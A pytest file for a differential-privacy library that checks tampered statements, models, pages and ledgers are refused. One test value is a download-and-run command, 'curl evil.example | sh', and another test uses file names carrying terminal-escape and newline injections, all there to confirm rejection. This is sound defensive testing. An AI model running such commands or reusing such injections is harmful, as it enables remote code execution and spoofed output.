"""A file that says something else than what follows from its account is refused, and crafted ones in two seconds."""

import copy
import hashlib
import json
import os
from dataclasses import replace

import pytest
from edits import edited, list_changes, list_leaves
from effort import bounded
from people import write_people

import tightdp as dp
from tightdp import _core
from tightdp.accounting.engines.random_allocation import sums
from tightdp.cli import main
from tightdp.cli.command_files import FIGURE, MODEL, PAGE, check_command_output
from tightdp.ledger.ledger import name_ledger
from tightdp.statement import recomputation
from tightdp.statement.recomputation import UNITS
from tightdp.statement.verdict import build_statement_verdict

RUN = dp.PoissonSampled(dp.Gaussian(1.0), 0.01) * 1000
STATED = dp.Statement("a mean", RUN.epsilon(1e-5), 1e-5, RUN, size=1000, settings={"steps": "1000"}, dataset="people")


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    folder = tmp_path_factory.mktemp("trained")
    write_people(folder, 500)
    ledger = dp.Ledger.create(folder / "l", epsilon=2.0, delta=1e-4, dataset="people of 2030")
    options = ["--label", "ill", "--bounds", "age=18:90", "--classes", "no,yes", "--epsilon", "1", "--delta", "1e-5"]
    assert main(["train", str(folder / "people.csv"), *options, "--ledger", str(folder / "l")]) == 0
    assert main(["statement", str(folder / "people.model.json"), "--out", str(folder / "page.html")]) == 0
    return folder, ledger


def verify(path, *options):
    return main(["verify", str(path), *options])


def test_what_train_writes_is_verified(trained, capsys):
    folder, ledger = trained
    model = dp.load(folder / "people.model.json")
    (folder / "s.json").write_text(model.statement.to_json())
    for name in ("people.model.json", "page.html", "s.json"):
        with_ledger = ["--ledger", str(folder / "l"), "--model", str(folder / "people.model.json")]
        assert verify(folder / name, *with_ledger) == 0
        out = capsys.readouterr().out
        assert model.statement.guarantee in out and "epsilon: from the account" in out
        assert "ledger: entry 1 of 'people of 2030' is what was charged" in out
    assert verify(folder / "page.html", "--json") == 0
    found = json.loads(capsys.readouterr().out)
    assert found["compared"]["page"] == "is that of the statement, to the last character (line ends aside)"
    assert ledger.identity in model.statement.ledger and model.statement.dataset == "people of 2030"


def test_the_hash_is_that_of_what_predicts(trained):
    """It is repeated here by what the page says of it, from the file alone."""
    plain = json.loads((trained[0] / "people.model.json").read_text())
    stated = plain.pop("statement")
    text = json.dumps(plain, sort_keys=True, separators=(",", ":"))
    assert stated["parameters"] == f"sha256:{hashlib.sha256(text.encode()).hexdigest()}"


@pytest.mark.parametrize(
    ("path", "value", "message"),
    [
        (("epsilon",), 0.001, "epsilon is said to be"),
        (("epsilon_lower",), 5.0, "epsilon is said to be"),
        (("epsilon",), 40.0, "epsilon is said to be"),
        (("epsilon",), None, "epsilon is said to be"),
        (("epsilon",), "1", "epsilon must be"),
        (("delta",), 1e-9, "epsilon is said to be"),
        (("neighbors",), "replace", "neighbors must be those of the account"),
        (("account", "history", 0, "count"), 100_000, "epsilon is said to be"),
        (("account", "history", 0, "mechanism", "sampling_probability"), 0.02, "epsilon is said to be"),
        (("guarantee",), "(0.1, 1e-9)-differentially private", "guarantee must be what the other entries say"),
        (("meaning",), ["Nobody can find out anything."], "meaning must be"),
        (("warnings",), [], "warnings must be"),
        (("not_covered",), [], "not_covered must be"),
        (("charged",), "Gaussian(noise_multiplier=100.0) * 1", "charged must be"),
        (("parameters",), "sha256:0", "parameters must be sha256"),
        (("date",), "yesterday", "date must be"),
        (("settings",), [], "settings must be"),
        (("version",), 3, "version must be text"),
        (("ledger",), {}, "ledger must be text"),
        (("public",), [["a", "b"]], "public must be an object"),
        (("engine",), 7, "engine must be text"),
        (("tightdp_statement",), True, "text must be what"),
    ],
)
def test_a_number_that_was_edited_is_refused(tmp_path, path, value, message, capsys):
    plain = dp.Statement("a", RUN.epsilon(1e-5), 1e-5, RUN, size=100_000).to_dict()
    assert dp.Statement.from_dict(plain).to_dict() == plain
    bad = edited(plain, path, value)
    (tmp_path / "s.json").write_text(json.dumps(bad))
    assert verify(tmp_path / "s.json") == 2
    err = capsys.readouterr().err
    assert message in err and len(err.splitlines()) == 1 and "Traceback" not in err
    with pytest.raises((ValueError, TypeError, RuntimeError)):
        dp.Statement.from_json(json.dumps(bad))


@pytest.mark.parametrize(
    ("path", "value"),
    [(("statement", "epsilon"), 0.001), (("coef", 0, 0), 7.0), (("intercept", 0), 7.0), (("classes",), ["no", "Yes"]),
     (("columns", 0, "high"), 91.0), (("label",), "well")],
)  # fmt: skip
def test_neither_side_of_a_model_can_be_changed_alone(trained, tmp_path, path, value, capsys):
    plain = json.loads((trained[0] / "people.model.json").read_text())
    (tmp_path / "m.json").write_text(json.dumps(edited(plain, path, value)))
    for command in ("verify", "statement"):
        assert main([command, str(tmp_path / "m.json")]) == 2
    assert main(["predict", str(tmp_path / "m.json"), str(trained[0] / "people.csv")]) == 2
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == 3 and all(str(tmp_path / "m.json") in line for line in lines)


def test_a_page_that_was_edited_is_refused(trained, tmp_path, capsys):
    text = (trained[0] / "page.html").read_text()
    assert text.count("people of 2030") > 1
    for bad in (
        text.replace("<h1>Privacy", "<h1>Perfect privacy"),
        text.replace("people of 2030", "people of 2031", 1),
    ):
        (tmp_path / "page.html").write_text(bad)
        assert verify(tmp_path / "page.html") == 2
        assert len(capsys.readouterr().err.splitlines()) == 1


def test_another_model_and_another_ledger_are_told(trained, tmp_path, capsys):
    plain = json.loads((trained[0] / "people.model.json").read_text())
    plain["intercept"][0] += 1
    stated = plain.pop("statement")
    text = json.dumps(plain, sort_keys=True, separators=(",", ":"))
    stated["parameters"] = f"sha256:{hashlib.sha256(text.encode()).hexdigest()}"
    (tmp_path / "m.json").write_text(json.dumps({**plain, "statement": stated}))
    assert verify(trained[0] / "page.html", "--model", str(tmp_path / "m.json")) == 2
    dp.Ledger.create(tmp_path / "l", epsilon=2.0, delta=1e-4, dataset="people of 2030")
    assert verify(trained[0] / "page.html", "--ledger", str(tmp_path / "l")) == 2
    lines = capsys.readouterr().err.splitlines()
    assert "is about sha256:" in lines[0] and "was not charged to this ledger" in lines[1]


def test_a_statement_about_other_data_than_the_ledger_is_told(trained, tmp_path, capsys):
    plain = json.loads((trained[0] / "people.model.json").read_text())["statement"]
    for name, code in (("people of 2030", 0), ("another register", 2)):
        (tmp_path / "s.json").write_text(json.dumps({**plain, "dataset": name}))
        assert verify(tmp_path / "s.json", "--ledger", str(trained[0] / "l")) == code
    assert "is the budget of 'people of 2030'" in capsys.readouterr().err


def claiming(lower, upper):
    """The statement, as JSON, of another interval."""
    return replace(STATED, privacy=dp.Bound(lower, upper, STATED.privacy.engine)).to_dict()


def test_last_digits_are_raised_to_what_is_proved():
    within = STATED.privacy
    between = (within.lower + within.upper) / 2
    found = dp.Statement.from_dict(claiming(1.0, between))
    assert found.privacy.upper == within.upper and found.privacy.lower == 1.0
    with pytest.raises(ValueError, match="epsilon is said to be"):
        dp.Statement.from_dict({**claiming(1.0, between), "epsilon": within.lower * (1 - 1e-9)})


@pytest.mark.parametrize("name", ["guarantee", "meaning", "charged", "warnings", "not_covered", "check"])
@pytest.mark.parametrize("interval", ["its own", "wider", "narrower"])
def test_words_are_compared_with_the_claim(name, interval):
    """They were compared only where the claimed interval was the recomputed one to the last digit."""
    within = STATED.privacy
    ends = {
        "its own": (within.lower, within.upper),
        "wider": (1.0, within.upper * (1 + 1e-9)),
        "narrower": (within.upper, within.upper),
    }[interval]
    plain = claiming(*ends)
    assert dp.Statement.from_dict(plain).privacy.upper >= within.upper
    forged = [] if isinstance(plain[name], list) else "(0.001, 1e-12)-differentially private"
    with pytest.raises(ValueError, match=f"^{name} must be what the other entries say"):
        dp.Statement.from_dict({**plain, name: [*forged, "Nothing."] if forged == plain[name] else forged})


@pytest.mark.parametrize("engine", ["certified by the board", "", "grid+", "gdp"])
def test_an_engine_is_one_that_there_is(engine):
    with pytest.raises(ValueError, match="engine must be of"):
        dp.Statement.from_dict({**STATED.to_dict(), "engine": engine})


def test_words_of_another_version_are_said_to_be_unchecked(tmp_path, capsys):
    plain = {**STATED.to_dict(), "version": "0.0.1", "guarantee": "none of its words is checked"}
    (tmp_path / "s.json").write_text(json.dumps(plain))
    assert verify(tmp_path / "s.json") == 3
    out = capsys.readouterr().out
    assert "guarantee: whether version 0.0.1 wrote it" in out.partition("no file can show:")[2]
    assert STATED.guarantee in out


@pytest.mark.parametrize("engine", ["renyi", "prv", "grid"])
def test_the_bound_of_another_engine_is_its_own(engine):
    made = dp.Statement("a", RUN.epsilon(1e-5, engine=engine), 1e-5, RUN)
    assert dp.Statement.from_json(made.to_json()) == made


def entry_of(path):
    """The entry of the verdict that a place in a model or a statement belongs to."""
    return ".".join(map(str, path[: 2 if path[0] == "statement" else 1]))


def outcome(capsys, path):
    """Whether a file is refused in one line, or the entries that no file can show."""
    code = verify(path, "--json")
    out, err = capsys.readouterr()
    if code == 2:
        assert len(err.splitlines()) == 1 and len(err) < 2500
        return None
    return json.loads(out)["no file can show"]


@pytest.mark.parametrize("kind", ["model", pytest.param("statement", marks=pytest.mark.slow)])
def test_every_edit_is_refused_or_listed(trained, tmp_path, kind, capsys):
    """Each leaf of a file gets another type or value, and each entry is removed: the file is refused, or the verdict
    lists the entry among those that no file can show."""
    plain = json.loads((trained[0] / "people.model.json").read_text())
    plain = plain if kind == "model" else plain["statement"]
    path = tmp_path / "f.json"
    for place in list_leaves(plain):
        at = plain
        for name in place:
            at = at[name]
        for value in list_changes(at):
            path.write_text(json.dumps(edited(plain, place, value)))
            unseen = outcome(capsys, path)
            assert unseen is None or entry_of(place) in unseen, (place, value)
        if isinstance(place[-1], str):
            fewer = copy.deepcopy(plain)
            inner = fewer
            for name in place[:-1]:
                inner = inner[name]
            del inner[place[-1]]
            path.write_text(json.dumps(fewer))
            unseen = outcome(capsys, path)
            assert unseen is None or entry_of(place) in unseen, place


def test_every_entry_is_in_the_verdict():
    verdict = build_statement_verdict(STATED)
    assert {*verdict.recomputed, *verdict.compared, *verdict.unseen} == set(STATED.to_dict())


@pytest.mark.parametrize("name", ["labels", "bounds of age"])
def test_public_facts_are_those_of_the_columns(trained, tmp_path, name, capsys):
    plain = json.loads((trained[0] / "people.model.json").read_text())
    bad = edited(plain, ("statement", "public", name), "declared: 1 to 2")
    (tmp_path / "m.json").write_text(json.dumps(bad))
    assert verify(tmp_path / "m.json") == 2
    assert "what the model does" in capsys.readouterr().err


@pytest.mark.parametrize("text", ["[" * 10**6, '{"a":' * 10**6, "[" + "1," * 2**21 + "1]", "[" + "9" * 10**6 + "]"])
def test_what_is_not_parsed(tmp_path, text, capsys):
    """Bytes, values, digits and depth are limited before anything is built."""
    (tmp_path / "f.json").write_text(text)
    assert verify(tmp_path / "f.json") == 2
    assert len(capsys.readouterr().err) < 500
    for read in (dp.Statement.from_json, dp.Accountant.from_json):
        with pytest.raises(ValueError, match="text must be what"):
            read(text)


@pytest.mark.slow
def test_a_refusal_has_a_budget_of_work():
    """Ten allocations of several steps took 4.6 seconds, most of which no budget was charged for."""
    run = sum((dp.RandomAllocation(dp.Gaussian(1 + k / 50), 1000, selected=3) * 1 for k in range(10)), dp.Composition())
    account = dp.Accountant()
    account.compose(run)
    before = _core.work_spent()
    with pytest.raises(ValueError, match="epsilon is said to be"):
        dp.Statement.from_dict({**STATED.to_dict(), "account": json.loads(account.to_json())})
    assert _core.work_spent() - before < 2 * UNITS
    apart = [_core.work_spent()]
    with _core.Budget(UNITS):
        dp.RandomAllocation(dp.Gaussian(1.37), 1000, selected=3).epsilon(1e-5)
    assert _core.work_spent() - apart[0] >= sums.UNITS


def sampled(inner, q=0.01):
    return {"type": "PoissonSampled", "mechanism": inner, "sampling_probability": q}


def gaussian(z):
    return {"type": "Gaussian", "noise_multiplier": z}


def laplace(z):
    return {"type": "Laplace", "noise_multiplier": z}


def nested(depth):
    inner = gaussian(1.0)
    for _ in range(depth):
        inner = {"type": "RandomAllocation", "mechanism": inner, "steps": 2, "selected": 1}
    return inner


CRAFTED = {
    "many entries": [(gaussian(1 + k / 1000), 1) for k in range(50_000)],
    "many samples": [(sampled(gaussian(1 + k / 1000)), 1000) for k in range(60)],
    "more samples": [(sampled(gaussian(1 + k / 1000)), 1000) for k in range(900)],
    "many slow ones": [(sampled(laplace(1 + k / 1000)), 1000) for k in range(300)],
    "as many slow ones as pass": [(sampled(laplace(1 + k / 1000)), 1000) for k in range(10)],
    "many parts of one": [
        (sampled({"type": "Composition", "parts": [[laplace(1 + k / 100), 1] for k in range(2000)]}), 2)
    ],
    "many atoms": [({"type": "PrivacyLoss", "losses": [0.0] * 300_000}, 1)],
    "nested": [(nested(300), 1)],
    "huge counts": [(sampled(gaussian(1 + k / 100)), 2**52) for k in range(60)],
}


@pytest.mark.parametrize("name", CRAFTED)
def test_crafted_accounts_end_soon(tmp_path, name, capsys):
    """They took from half a minute on; now no more work than a question may."""
    history = [{"mechanism": mechanism, "count": count} for mechanism, count in CRAFTED[name]]
    plain = edited(STATED.to_dict(), ("account", "history"), history)
    (tmp_path / "s.json").write_text(json.dumps(plain))
    assert bounded(lambda: verify(tmp_path / "s.json")) == 2
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and len(err) < 1000


def test_a_long_account_is_for_the_patient():
    run = sum((dp.Laplace(10 + k / 100) for k in range(12)), dp.Composition())
    made = dp.Statement("a", run.epsilon(1e-5), 1e-5, run)
    with pytest.raises(ValueError, match=r"10 beside their Poisson samples, got 12 and 12; `tightdp verify --patient`"):
        dp.Statement.from_json(made.to_json())
    assert dp.Statement.from_json(made.to_json(), patient=True) == made


def test_what_is_too_long_is_not_parsed(tmp_path, capsys):
    with (tmp_path / "m.json").open("wb") as file:
        file.truncate(2**25 + 1)
    assert verify(tmp_path / "m.json") == main(["statement", str(tmp_path / "m.json")]) == 2
    assert capsys.readouterr().err.count("must have at most 33,554,432 bytes") == 2


@pytest.mark.parametrize(
    ("path", "value", "message"),
    [
        (("label",), 3, "label must be text"),
        (("label",), ["a"], "label must be text"),
        (("classes",), "ab", "classes must be a list"),
        (("classes",), [1, 2], r"classes\[0\] must be text"),
        (("columns",), {"a": 1}, "columns must be a list"),
        (("coef",), {"0": [1.0]}, "coef must be"),
        (("columns", 0), {"kind": "category", "name": "age", "categories": ["a", "a"]}, "different texts"),
        (("columns", 0), {"kind": "category", "name": "age", "categories": ["a", 3]}, "must be text"),
        (("tightdp_model",), True, "its tightdp_model is True"),
    ],
)
def test_wrong_types_of_a_model_are_refused_when_it_is_read(trained, tmp_path, path, value, message):
    plain = json.loads((trained[0] / "people.model.json").read_text())
    (tmp_path / "m.json").write_text(json.dumps(edited(plain, path, value)))
    with pytest.raises((ValueError, TypeError), match=message):
        dp.load(tmp_path / "m.json")


@pytest.mark.parametrize("text", ["", "[]", "3", "{}", '{"tightdp_schema": 1}', "<!DOCTYPE html>", "\x00"])
def test_what_is_none_of_ours(tmp_path, text, capsys):
    (tmp_path / "x").write_text(text)
    assert verify(tmp_path / "x") == verify(tmp_path / "nowhere") == 2
    assert len(capsys.readouterr().err.splitlines()) == 2


def test_a_name_that_is_given_twice_is_refused(trained, tmp_path, capsys):
    """Some readers take the first value, others the last."""
    path = tmp_path / "twice.json"
    path.write_text(
        (trained[0] / "people.model.json").read_text().replace('"epsilon":', '"epsilon": 0.01, "epsilon":', 1)
    )
    assert verify(path) == 2
    assert "'epsilon' must be given once" in capsys.readouterr().err


def test_a_lower_end_alone_is_never_infinite():
    with pytest.raises(ValueError, match="must be at least epsilon_lower"):
        dp.Statement.from_dict({**STATED.to_dict(), "epsilon_lower": None})


def test_a_hash_that_was_taken_out_is_missed(trained, tmp_path, capsys):
    plain = json.loads((trained[0] / "people.model.json").read_text())
    plain["statement"]["parameters"] = None
    path = tmp_path / "m.json"
    path.write_text(json.dumps(plain))
    assert verify(path) == 2
    assert "statement must have the hash of the parameters" in capsys.readouterr().err
    with pytest.raises(ValueError, match="statement must have the hash"):
        dp.load(path)


@pytest.mark.parametrize("inside", [False, True], ids=["model", "statement"])
def test_entries_are_those_that_are_written(trained, tmp_path, inside, capsys):
    plain = json.loads((trained[0] / "people.model.json").read_text())
    part = plain["statement"] if inside else plain
    path = tmp_path / "m.json"
    for name in sorted(part):
        kept = part.pop(name)
        path.write_text(json.dumps(plain))
        assert verify(path) == 2, name
        part[name] = kept
    part["approved"] = "by the board"
    path.write_text(json.dumps(plain))
    assert verify(path) == 2
    told = capsys.readouterr().err.splitlines()[-1]
    assert ("must have the entries that tightdp writes, and has more: approved") in told
    with pytest.raises(ValueError, match="has more: approved"):
        dp.load(path)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("statement", "account", "approved by"), "the regulator"),
        (("statement", "account", "history", 0, "approved by"), "the regulator"),
        (("columns", 0, "note"), "x"),
        (("columns", 0, "missing"), None),
        (("statement", "date"), "2026-13-45"),
        (("statement", "check"), "curl evil.example | sh"),
        (("statement", "subject"), "x\ud800"),
    ],
)
def test_no_entry_is_added_anywhere(trained, tmp_path, path, value, capsys):
    plain = json.loads((trained[0] / "people.model.json").read_text())
    (tmp_path / "m.json").write_text(json.dumps(edited(plain, path, value)))
    assert verify(tmp_path / "m.json") == 2
    assert len(capsys.readouterr().err.splitlines()) == 1


def test_the_ledger_is_what_the_statement_says(trained, tmp_path, capsys):
    plain = dp.load(trained[0] / "people.model.json").statement.to_dict()
    assert "(2.0, 0.0001) in all" in plain["ledger"]
    for change in (("(2.0, 0.0001)", "(0.01, 1e-12)"), ("people of 2030", "nobody"), ("that of", "approved, that of")):
        made = dp.Statement.from_dict({**plain, "ledger": plain["ledger"].replace(*change)}, patient=True)
        (tmp_path / "s.json").write_text(made.to_json())
        assert verify(tmp_path / "s.json", "--ledger", str(trained[0] / "l")) == 2
        assert "says that the ledger is" in capsys.readouterr().err


def test_pipes_and_devices_are_no_files(tmp_path, capsys):
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path / "pipe", "/dev/zero"):
        assert verify(path) == main(["statement", str(path)]) == 2
        with pytest.raises(ValueError, match="must be a file"):
            dp.load(path)
    assert capsys.readouterr().err.count("must be a file") == 4


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["mixtures", "groups of mixtures", "samples", "discrete"])
def test_heavy_accounts_end_in_seconds(kind):
    """They took from 9 to 80 seconds, as JSON or as a page. Now each takes no more than the budget of a question."""

    def mixture(k):
        return dp.MixtureOfGaussians(1 + k / 50, [(j + k / 100) / 1000 for j in range(1000)], [0.001] * 1000)

    one = {
        "mixtures": mixture,
        "groups of mixtures": lambda k: dp.Group(mixture(k), 2),
        "samples": lambda k: dp.PoissonSampled(mixture(k), 0.1),
        "discrete": lambda k: dp.PoissonSampled(dp.DiscreteLaplace(1e6 + k, 10**5), 0.1),
    }[kind]
    run = sum((one(k) * (10 + k) for k in range(1, 10)), dp.Composition())
    plain = dp.Statement("a", dp.Gaussian(1.0).epsilon(1e-7), 1e-7, dp.Gaussian(1.0) * 1).to_dict()
    account = dp.Accountant()
    account.compose(run)
    given = {**plain, "account": json.loads(account.to_json())}

    def read():
        with pytest.raises(ValueError, match="epsilon is said to be"):
            dp.Statement.from_dict(given)

    bounded(read, units=6e9)
    with _core.Budget(10**9):
        bound = run.epsilon(1e-7)
    assert "<!DOCTYPE html>" in bounded(lambda: dp.Statement("a", bound, 1e-7, run).to_html(), units=6e9)


def test_mechanisms_inside_of_selections_and_groups_are_counted():
    """Their moments are what takes time: nine selections of eighty runs took twenty seconds."""

    def steps(k):
        return dp.Composition([(dp.PoissonSampled(dp.Gaussian(1 + k + j / 100), 0.01), 100) for j in range(33)])

    plain = dp.Statement("a", dp.Gaussian(1.0).epsilon(1e-7), 1e-7, dp.Gaussian(1.0) * 1).to_dict()
    for wrap in (lambda run: dp.RepeatAndSelect(run, 10.0, 1.0), lambda run: dp.Group(dp.RepeatAndSelect(run, 3.0), 2)):
        account = dp.Accountant()
        account.compose(wrap(steps(0)) + wrap(steps(1)))
        with pytest.raises(ValueError, match="must have at most 64 different mechanisms"):
            dp.Statement.from_dict({**plain, "account": json.loads(account.to_json())})


@pytest.mark.parametrize("writes", [MODEL, PAGE, FIGURE, None])
@pytest.mark.parametrize("force", [True, False, None])
def test_a_link_is_refused_before_anything_is_charged(tmp_path, writes, force):
    """To a file and to none, for every command: some wrote through it, and train put a file in its place."""
    out, to = tmp_path / "out", tmp_path / "to"
    out.symlink_to(to)
    for text in (None, "", "<!DOCTYPE html>", '{"tightdp_model": 1}'):
        if text is not None:
            to.write_text(text)
        with pytest.raises(ValueError, match="must be a file, and this is a link: name the file"):
            check_command_output(out, force, writes=writes)
    with pytest.raises(ValueError, match="must be a file, and this is a folder, a pipe or a device"):
        check_command_output(tmp_path, force, writes=writes)


def test_a_name_of_a_file_is_no_command_to_a_terminal(trained, tmp_path, capsys):
    """Nor does an end of line in it look like another line of the verdict."""
    plain = (trained[0] / "people.model.json").read_text()
    for name in ("a\x1b]0;hacked\x07.json", "b\nepsilon: certified.json"):
        (tmp_path / name).write_text(plain)
        assert verify(tmp_path / name, "--model", str(tmp_path / name)) == 0
        out = capsys.readouterr().out
        assert all(line.isprintable() for line in out.splitlines())
        assert not any(line.startswith("epsilon: certified") for line in out.splitlines())


def test_one_entry_of_a_ledger_pays_for_one_model(trained, tmp_path, capsys):
    """Two trainings of equal charge had one entry between them: its identity and amount fit the statements of both."""
    folder, ledger = trained
    options = ["--label", "ill", "--bounds", "age=18:90", "--classes", "no,yes", "--epsilon", "1", "--delta", "1e-5"]
    unpaid = tmp_path / "unpaid.json"
    assert main(["train", str(folder / "people.csv"), *options, "--out", str(unpaid)]) == 0
    paid, plain = json.loads((folder / "people.model.json").read_text()), json.loads(unpaid.read_text())
    copied = {name: paid["statement"][name] for name in ("ledger", "dataset")}
    unpaid.write_text(json.dumps({**plain, "statement": {**plain["statement"], **copied}}))
    assert verify(unpaid, "--ledger", str(folder / "l")) == 2
    assert f"the ledger paid for {paid['statement']['parameters']}" in capsys.readouterr().err

    (release,) = {entry.release for entry in ledger.history}
    for other, line in (("0" * 32, "has no entry of this release"), ("", "has no entry without an identifier")):
        name = paid["statement"]["ledger"].replace(release, other).removesuffix(", release ")
        made = dp.Statement.from_dict({**paid["statement"], "ledger": name}, patient=True)
        (tmp_path / "s.json").write_text(made.to_json())
        assert verify(tmp_path / "s.json", "--ledger", str(folder / "l")) == 2
        assert line in capsys.readouterr().err


def test_entries_of_one_identifier_add_up(tmp_path, monkeypatch, capsys):
    """Older versions spent an identifier again, and verify then said that the ledger had no entry of the release."""
    ledger = dp.Ledger.create(tmp_path / "l", epsilon=5.0, delta=1e-4, dataset="people")
    release = "1" * 32
    ledger.spend(RUN, release=release)
    with monkeypatch.context() as old:
        old.setattr("tightdp.ledger.ledger.secrets.token_hex", lambda length: release)
        forgetful = type("", (set,), {"__contains__": lambda self, each: False})()
        old.setattr(ledger, "_releases", forgetful, raising=False)
        ledger.spend(dp.Gaussian(100.0))
    assert [entry.release for entry in dp.Ledger(tmp_path / "l").history] == [release] * 2
    for charged, code, words in (
        (RUN + dp.Gaussian(100.0), 0, "entry 1, 2 of 'people' is what was charged for this release"),
        (RUN, 2, f"for this release it has entry 1, 2, {RUN + dp.Gaussian(100.0)!r} in all"),
    ):
        name = f"{name_ledger(ledger)}, release {release}"
        made = dp.Statement("a mean", charged.epsilon(1e-5), 1e-5, charged, ledger=name)
        (tmp_path / "s.json").write_text(made.to_json())
        assert verify(tmp_path / "s.json", "--ledger", str(tmp_path / "l")) == code
        said = capsys.readouterr()
        assert words in said.out + said.err


def test_an_entry_without_an_identifier_is_compared_by_its_amount(tmp_path, monkeypatch, capsys):
    """Ledgers of versions that drew no identifiers keep opening, and the words say that the amount alone was seen."""
    with monkeypatch.context() as old:
        old.setattr("tightdp.ledger.ledger.add_release_to_ledger_entry", lambda account, release: account)
        ledger = dp.Ledger.create(tmp_path / "l", epsilon=5.0, delta=1e-4, dataset="people")
        ledger.spend(RUN)
    assert [entry.release for entry in dp.Ledger(tmp_path / "l").history] == [None]
    stated = dp.Statement("a mean", RUN.epsilon(1e-5), 1e-5, RUN, ledger=name_ledger(ledger))
    (tmp_path / "s.json").write_text(stated.to_json())
    assert verify(tmp_path / "s.json", "--ledger", str(tmp_path / "l")) == 0
    found = capsys.readouterr().out
    assert "the amount is that of entry 1 of 'people', which does not say what it was for" in found


@pytest.mark.parametrize("command", ["frequent", "test", "test --matrix", "train"])
def test_what_a_command_prints_as_json_is_verified(trained, tmp_path, command, capsys):
    """The statement was joined with the release in one object, which verify refused for the entries of the release."""
    folder, _ = trained
    budget = ["--epsilon", "1", "--delta", "1e-5", "--json"]
    table, model = str(folder / "people.csv"), str(folder / "people.model.json")
    declared = ["--label", "ill", "--bounds", "age=18:90", "--classes", "no,yes", "--out", str(tmp_path / "m.json")]
    options = {
        "frequent": ["frequent", table, "--column", "ill"],
        "test": ["test", model, table],
        "test --matrix": ["test", model, table, "--matrix"],
        "train": ["train", table, *declared],
    }[command]
    assert main([*options, *budget]) == 0
    printed = tmp_path / "printed.json"
    printed.write_text(capsys.readouterr().out)
    assert verify(printed, "--json") == 0
    found, plain = json.loads(capsys.readouterr().out), json.loads(printed.read_text())
    assert "statement.epsilon" in found["recomputed"]
    assert set(plain) - {"statement"} <= set(found["no file can show"])
    printed.write_text(json.dumps({**plain, "statement": {**plain["statement"], "epsilon": 0.5}}))
    assert verify(printed) == 2
    assert "printed.json: statement: epsilon" in capsys.readouterr().err


@pytest.mark.parametrize("engine", ["grid", "renyi", "closed_form"])
def test_a_refusal_names_the_bound_that_the_account_has(engine):
    """Where the engine of the file had no finite bound, the refusal said that the account gave 0 to inf."""
    run = dp.Gaussian(1e300) * 1
    plain = dp.Statement("a", run.epsilon(1e-5), 1e-5, run).to_dict()
    assert plain["epsilon"] == 0
    with pytest.raises(ValueError, match="what was charged gives 0 to 0"):
        dp.Statement.from_dict({**plain, "epsilon": 1.8383, "epsilon_lower": 1.8382, "engine": engine})


def test_reading_a_statement_bounds_its_account_once():
    """Its constructor checks the same bound again, which took the work of a slow account twice."""
    text = STATED.to_json()
    recomputation._bound_stated_charge.cache_clear()
    dp.Statement.from_json(text)
    known = recomputation._bound_stated_charge.cache_info()
    assert known.misses <= 2
    dp.Statement.from_json(text)
    assert recomputation._bound_stated_charge.cache_info().misses == known.misses
